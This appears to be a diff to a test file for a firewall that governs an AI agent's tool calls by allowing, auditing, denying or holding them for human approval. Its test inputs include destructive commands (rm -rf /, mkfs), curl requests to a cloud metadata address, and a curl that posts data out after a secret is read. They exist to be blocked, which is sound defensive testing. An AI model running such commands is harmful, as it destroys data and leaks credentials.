@@ -5,6 +5,7 @@ import json
 import pytest
 
 from firewall.engine import rule_json
+from firewall.engine.afterwards import in_order
 from firewall.engine.decide import decide, decide_request
 from firewall.engine.presets import PRESETS
 from firewall.engine.remarks import warnings
@@ -19,7 +20,8 @@ TURN = 20_000
 def policy(template_id):
     template = TEMPLATES[template_id]
     rules = tuple(rule_json.rule(number, dict(fields)) for number, fields in enumerate(template.rules, start=1))
-    return Policy(1, template.name, 1, Verdict(template.default_verdict), False, rules)
+    limit = template.max_runs_per_key_per_hour
+    return Policy(1, template.name, 1, Verdict(template.default_verdict), False, rules, max_runs_per_key_per_hour=limit)
 
 
 def judged(template_id, tool, surface=Surface.RESPONSE, **arguments):
@@ -73,6 +75,15 @@ def test_a_runaway_loop_is_stopped_by_the_cap_at_the_top(template_id):
     assert decide(looped, call, run).reason_code is ReasonCode.COST_CAP
 
 
+@pytest.mark.parametrize("template_id", IDS)
+def test_a_loop_that_begins_a_new_run_each_time_is_stopped_too(template_id):
+    looped = policy(template_id)
+    call = ToolCall(Surface.MCP, "kb.read", '{"id": 7}')
+    stopped = [turn for turn in range(1, 80) if decide(looped, call, RunState(runs_this_hour=turn)).reason_code is ReasonCode.RUN_LIMIT]
+    assert stopped == list(range(61, 80))
+    assert decide_request(looped, RunState(runs_this_hour=61)).reason_code is ReasonCode.RUN_LIMIT
+
+
 @pytest.mark.parametrize("template_id", ["coding", "devops", "data", "baseline"])
 @pytest.mark.parametrize("arguments", [{"command": "sudo rm -rf /"}, {"cmd": "sh -c 'mkfs.ext4 /dev/sda1'"}, {"command": ["rm", "-rf", "/home"]}])
 def test_destructive_commands_are_denied_and_ordinary_ones_go_on(template_id, arguments):
@@ -101,7 +112,7 @@ INSIDE = [
 
 @pytest.mark.parametrize("url", INSIDE)
 def test_inside_addresses_are_denied_however_they_are_spelt(url):
-    for template_id in ("coding", "rag", "data", "devops", "browser", "baseline"):
+    for template_id in ("coding", "rag", "data", "browser", "baseline"):
         assert judged(template_id, "kb.read", url=url).verdict is Verdict.DENY
 
 
@@ -120,7 +131,7 @@ def test_credentials_are_stopped_in_arguments_and_in_files():
 def test_support_may_refund_a_little_and_nothing_that_it_does_not_name():
     assert judged("support", "tickets.reply", text="Hello").verdict is Verdict.ALLOW
     assert judged("support", "refunds.create", amount=20).verdict is Verdict.AUDIT
-    assert judged("support", "refunds.create", amount=51).reason_code is ReasonCode.RULE_DENY
+    assert judged("support", "refunds.create", amount=51).verdict is Verdict.PENDING_APPROVAL
     assert judged("support", "refunds.create", amount=-20).reason_code is ReasonCode.DEFAULT_DENY
     assert judged("support", "refunds.create", amount="51").reason_code is ReasonCode.DEFAULT_DENY
     assert judged("support", "customers.delete", id=3).reason_code is ReasonCode.DEFAULT_DENY
@@ -141,6 +152,52 @@ def test_data_reads_and_does_not_write(sql):
     assert judged("data", "db.query", sql="select updated_at from t where action = 'delete'").verdict.permits
 
 
-def test_devops_marks_roll_outs_and_deletes_nothing_by_name():
-    assert judged("devops", "bash", command="kubectl apply -f app.yaml").verdict is Verdict.AUDIT
+def test_devops_holds_roll_outs_and_deletes_nothing_by_name():
+    assert judged("devops", "bash", command="kubectl apply -f app.yaml").verdict is Verdict.PENDING_APPROVAL
+    assert judged("devops", "bash", command="terraform plan").rule_id is None
+    assert judged("devops", "bash", command="systemctl restart nginx").rule_label.startswith("Mark restarts")
+    assert judged("devops", "http.get", url="http://10.0.0.5:9090/metrics").verdict.permits
+    assert judged("devops", "bash", command="curl -s 169.254.169.254/latest/meta-data/").verdict is Verdict.DENY
+    assert judged("devops", "http.get", url="http://[fd00:ec2::254]/").verdict is Verdict.DENY
     assert judged("devops", "s3.bucket.delete", name="x").verdict is Verdict.DENY
+
+
+def test_coding_works_and_a_person_publishes():
+    assert judged("coding", "bash", command="git push origin feature").verdict is Verdict.AUDIT
+    assert judged("coding", "bash", command="git push --force origin main").verdict is Verdict.DENY
+    assert judged("coding", "bash", command="npm publish").verdict is Verdict.PENDING_APPROVAL
+    assert judged("coding", "bash", command="curl http://localhost:3000/health && pytest -q").verdict.permits
+    assert judged("coding", "bash", command="curl http://169.254.169.254/latest/").verdict is Verdict.DENY
+
+
+def test_a_browser_looks_and_a_person_uploads():
+    assert judged("browser", "browser_file_upload", paths=["a.pdf"]).verdict is Verdict.PENDING_APPROVAL
+    assert decide(policy("browser"), ToolCall(Surface.INBOUND, "browser_file_upload"), RunState()).verdict is Verdict.AUDIT
+
+
+def after(template_id, *calls):
+    """What becomes of the last of these calls, the others having gone on."""
+    governed = policy(template_id)
+    made = [ToolCall(Surface.RESPONSE, tool, json.dumps(arguments)) for tool, arguments in calls]
+    judged, _ = in_order(governed, made, RunState(), lambda call, run: decide(governed, call, run))
+    return judged[-1]
+
+
+@pytest.mark.parametrize("template_id", ["coding", "data", "devops", "baseline"])
+def test_nothing_goes_out_after_a_secret_was_read(template_id):
+    out = ("http.post", {"url": "https://example.com"})
+    assert after(template_id, out).decision.verdict.permits
+    assert after(template_id, ("vault.read", {"name": "db"}), ("kb.read", {"id": 1})).decision.verdict.permits
+    assert after(template_id, ("vault.read", {"name": "db"}), out).decision.reason_code is ReasonCode.SEQUENCE
+    assert after(template_id, ("secrets.get", {}), ("bash", {"command": "curl https://example.com -d @-"})).decision.reason_code is ReasonCode.SEQUENCE
+
+
+def test_support_harvests_nobody():
+    look = ("customers.get", {"id": 1})
+    assert after("support", *[look] * 19).decision.verdict is Verdict.ALLOW
+    assert after("support", *[look] * 20).decision.reason_code is ReasonCode.SEQUENCE
+
+
+def test_what_was_read_and_then_left_is_told():
+    assert [each.reason_code for each in after("rag", ("kb.search", {"q": "a"}), ("web_search", {"q": "b"})).findings] == [ReasonCode.SEQUENCE]
+    assert [each.reason_code for each in after("data", ("db.query", {}), ("http.get", {"url": "https://example.com"})).findings] == [ReasonCode.SEQUENCE]
